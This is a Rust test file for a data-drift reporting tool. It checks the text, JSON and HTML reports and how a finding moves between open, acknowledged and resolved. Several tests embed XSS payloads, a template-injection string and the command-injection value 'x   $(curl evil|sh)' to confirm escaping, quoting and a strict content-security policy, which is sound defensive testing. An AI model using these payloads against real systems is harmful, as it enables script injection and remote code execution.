use std::time::Duration;

use super::{
    page::{Proposal, page},
    text::{grid, text},
    *,
};
use crate::report::Format;

/// Ten days after the first load.
fn now() -> Timestamp {
    day(10)
}

fn day(day: u64) -> Timestamp {
    Timestamp::UNIX_EPOCH + Duration::from_secs((20_454 + day) * 86_400)
}

fn found(path: &str, kind: &str, severity: Severity, effect: &str) -> Finding {
    Finding {
        path: path.to_owned(),
        kind: kind.to_owned(),
        severity,
        state: State::Open,
        effect: effect.to_owned(),
        expected: String::new(),
        found: "string ×84".to_owned(),
        seen: 84,
        records: 1_414,
        loads: 2,
        times: 1,
        loads_since: 0,
        first_seen: day(8),
        last_seen: day(9),
        contract_first: "1.0.0".to_owned(),
        contract_last: "1.0.0".to_owned(),
        samples: Vec::new(),
        nature: BTreeSet::from(["string".to_owned()]),
        acknowledged_at: None,
        note: String::new(),
        renamed_to: None,
        by_load: vec![0; 8].into_iter().chain([40, 44]).collect(),
    }
}

fn sample(at: &str, value: &str) -> Sample {
    Sample {
        at: Some(at.to_owned()),
        value: value.to_owned(),
    }
}

/// One of each: a new field, a removed one, another type, a new value of a list, a rise of nulls.
pub(crate) fn drifted() -> Vec<StreamDrift> {
    let loads = (0..10).map(|number| Load {
        load_id: number.to_string(),
        started_at: day(number),
        contract_version: "1.0.0".to_owned(),
        read: 700 + 10 * number,
        merged: 640 + 10 * number,
        superseded: 60 - 8 * u64::from(number > 7),
        quarantined: 8 * u64::from(number > 7),
        rescued: 40 * u64::from(number > 7),
    });
    let changed = Finding {
        expected: "integer".to_owned(),
        found: "string ×16".to_owned(),
        seen: 16,
        times: 2,
        samples: vec![sample("8/0/3", "\"12 pcs\""), sample("8/1/40", "\"7 pcs\"")],
        ..found(
            "lines[].quantity",
            "type_changed",
            Severity::Breaking,
            "quarantined",
        )
    };
    let grown = Finding {
        expected: "one of \"new\", \"paid\"".to_owned(),
        found: "\"parked\" ×4".to_owned(),
        seen: 4,
        samples: vec![sample("9/0/1", "\"parked\"")],
        ..found("status", "enum_grown", Severity::Breaking, "quarantined")
    };
    let missing = Finding {
        expected: "string".to_owned(),
        found: "nothing".to_owned(),
        seen: 1_414,
        renamed_to: Some("remark".to_owned()),
        ..found("note", "missing", Severity::AtRisk, "accepted")
    };
    let jumped = Finding {
        expected: "2 % without a value".to_owned(),
        found: "31 % without a value".to_owned(),
        ..found("phone", "null_rate_jumped", Severity::AtRisk, "accepted")
    };
    let unknown = Finding {
        samples: vec![
            sample("8/0/0", "\"<script>alert(1)</script>\""),
            sample("8/0/1", "\"b\""),
        ],
        ..found("remark", "unknown", Severity::Informational, "rescued")
    };
    let coerced = Finding {
        expected: "decimal(12,2)".to_owned(),
        ..found("total", "type_changed", Severity::Informational, "coerced")
    };
    let known = Finding {
        state: State::Acknowledged,
        note: "the vendor knows".to_owned(),
        acknowledged_at: Some(day(9)),
        ..found("", "deprecated", Severity::AtRisk, "accepted")
    };
    let calm = Load {
        load_id: "0".to_owned(),
        started_at: day(9),
        contract_version: "2.1.0".to_owned(),
        read: 12,
        merged: 12,
        ..Load::default()
    };
    vec![
        StreamDrift {
            stream: "shop.orders".to_owned(),
            loads: loads.collect(),
            findings: vec![changed, grown, missing, jumped, unknown, coerced, known],
        },
        StreamDrift {
            stream: "shop.customers".to_owned(),
            loads: vec![calm],
            findings: Vec::new(),
        },
    ]
}

const OPEN: Filter = Filter {
    all: false,
    since: None,
};

#[test]
fn r009_drift_is_told_to_people_with_first_seen_counts_and_samples() {
    insta::assert_snapshot!(text(drifted(), OPEN).unwrap(), @r#"
    shop.orders: 6 open: 2 breaking, 2 at risk, 2 informational
    severity       change            path              expected              found                 sample                                how often                  rows         first seen
    ─────────────  ────────────────  ────────────────  ────────────────────  ────────────────────  ────────────────────────────────────  ─────────────────────────  ───────────  ────────────────────
    breaking       type changed      lines[].quantity  integer               string ×16            "12 pcs" in 8/0/3                     16 of 1,414, came 2 times  quarantined  2026-01-09T00:00:00Z
    breaking       enum grown        status            one of "new", "paid"  "parked" ×4           "parked" in 9/0/1                     4 of 1,414                 quarantined  2026-01-09T00:00:00Z
    at risk        missing           note              string                nothing                                                     1,414 of 1,414             accepted     2026-01-09T00:00:00Z
    at risk        null rate jumped  phone             2 % without a value   31 % without a value                                        84 of 1,414                accepted     2026-01-09T00:00:00Z
    informational  unknown           remark                                  string ×84            "<script>alert(1)</script>" in 8/0/0  84 of 1,414                rescued      2026-01-09T00:00:00Z
    read without loss as the declared type: total (decimal(12,2), 84 of 1,414)
    → note went when remark came: perhaps it has a new name
    → landfall quarantine show shop.orders 8/0/3   one of the records set aside
    → landfall contract patch shop.orders   a new version of the contract to review
    → landfall drift ack shop.orders   say that the 6 changes are known
    not shown: 1 acknowledged; `--all` shows them
    "#);
}

#[test]
fn r009_drift_is_told_to_programs_with_first_seen_counts_and_samples() {
    let mut out = Vec::new();
    let streams = OPEN.apply(drifted());
    grid(&streams).write(Format::Json, &mut out).unwrap();
    let lines = String::from_utf8(out).unwrap();
    assert_eq!(lines.lines().count(), 6);
    insta::assert_snapshot!(lines.lines().next().unwrap(), @r#"{"stream":"shop.orders","path":"lines[].quantity","kind":"type_changed","severity":"breaking","state":"open","effect":"quarantined","expected":"integer","found":"string ×16","seen":16,"records":1414,"loads":2,"times":2,"first_seen":"2026-01-09T00:00:00Z","last_seen":"2026-01-10T00:00:00Z","contract_first":"1.0.0","contract_last":"1.0.0","samples":[{"at":"8/0/3","value":"\"12 pcs\""},{"at":"8/1/40","value":"\"7 pcs\""}],"acknowledged_at":null,"note":"","renamed_to":null}"#);
}

#[test]
fn no_drift_is_said() {
    assert_eq!(
        text(Vec::new(), OPEN).unwrap(),
        "no drift: every load was as its contract says\n"
    );
}

#[test]
fn since_leaves_out_what_was_seen_before() {
    let filter = Filter {
        all: false,
        since: Some(now()),
    };
    assert!(
        filter
            .apply(drifted())
            .iter()
            .all(|drift| drift.findings.is_empty())
    );
}

fn said(nature: &[&str]) -> Said {
    Said {
        nature: nature.iter().map(|&word| word.to_owned()).collect(),
        at: Some(now()),
        note: String::new(),
    }
}

#[test]
fn r142_f165_a_change_is_open_until_somebody_knows_it_or_it_is_gone() {
    let state = |finding: Finding, is_agreed: bool, said: Option<Said>, now: Timestamp| {
        judged(finding, is_agreed, said.as_ref(), now).state
    };
    let seen = || found("a", "type_changed", Severity::AtRisk, "rescued");
    let gone = || Finding {
        loads_since: 1,
        ..seen()
    };
    assert_eq!(state(seen(), false, None, day(9)), State::Open);
    // Gone for a load only: it may come back, and would be the same alert.
    assert_eq!(state(gone(), false, None, day(10)), State::Open);
    assert_eq!(state(gone(), false, None, day(16)), State::Resolved);
    assert_eq!(state(gone(), true, None, day(10)), State::Resolved);
    // An agreement counts once a load was without it.
    assert_eq!(state(seen(), true, None, day(10)), State::Open);
    // No load since: silence says nothing.
    assert_eq!(state(seen(), false, None, day(40)), State::Open);
    assert_eq!(
        state(seen(), false, Some(said(&["string"])), day(9)),
        State::Acknowledged
    );
    assert_eq!(
        state(seen(), false, Some(said(&["integer"])), day(9)),
        State::Open
    );
}

#[test]
fn f160_a_page_runs_nothing_that_came_with_data() {
    let mut streams = drifted();
    let nasty = "\"><img src=x onerror=alert(1)></code><script>alert(2)</script>{{ 7 * 7 }}";
    streams[0].findings[0].path = nasty.to_owned();
    streams[0].findings[1].found = nasty.to_owned();
    streams[0].findings[2].note = nasty.to_owned();
    let proposal = Proposal {
        stream: "shop.orders".to_owned(),
        unified: format!("--- a\n+++ b\n@@ -1 +1 @@\n-{nasty}\n+x\n"),
    };
    let html = page(&streams, &[proposal], now()).unwrap();
    assert!(!html.contains("<script") && !html.contains("<img"), "{html}");
    assert!(html.contains("&lt;script&gt;alert(2)"));
    assert!(html.contains("{{ 7 * 7 }}"));
    assert!(html.contains("Content-Security-Policy") && html.contains("default-src 'none'"));
    for outside in [
        "http://",
        "https://",
        "url(",
        "@import",
        "<link",
        "javascript:",
        " onload",
    ] {
        assert!(!html.contains(outside), "{outside}");
    }
}

#[test]
fn f160_a_name_in_the_data_is_no_command_and_no_part_of_one() {
    let mut streams = drifted();
    let nasty = "x   $(curl evil|sh)";
    streams[0].findings.truncate(1);
    streams[0].findings[0].path = nasty.to_owned();
    streams[0].findings[0].renamed_to = Some(nasty.to_owned());
    let told = text(streams.clone(), OPEN).unwrap();
    assert!(
        told.contains("landfall drift ack shop.orders 'x   $(curl evil|sh)'   say"),
        "{told}"
    );
    let html = page(&streams, &[], now()).unwrap();
    let commands: Vec<&str> = html
        .split("<pre class=\"copy\" tabindex=\"0\">")
        .skip(1)
        .map(|rest| rest.split("</pre>").next().unwrap())
        .collect();
    assert_eq!(
        commands,
        [
            "landfall quarantine show shop.orders 8&#x2f;0&#x2f;3",
            "landfall contract patch shop.orders",
            "landfall drift ack shop.orders &#x27;x   $(curl evil|sh)&#x27;",
        ]
    );
}

#[test]
fn r009_the_page_has_every_change_and_says_since_when() {
    let html = page(&drifted(), &[], now()).unwrap();
    for expected in [
        "shop.orders",
        "lines[].quantity",
        "status",
        "remark",
        "phone",
        "8&#x2f;1&#x2f;40",
        "7 pcs",
        "the vendor knows",
    ] {
        assert!(html.contains(expected), "{expected}");
    }
    assert_eq!(html.matches("<article").count(), 5);
    assert!(
        html.contains("6 changes wait for somebody, the oldest seen 2 days ago."),
        "{html}"
    );
    let empty = page(&[], &[], now()).unwrap();
    assert!(empty.contains("Nothing is open"));
}
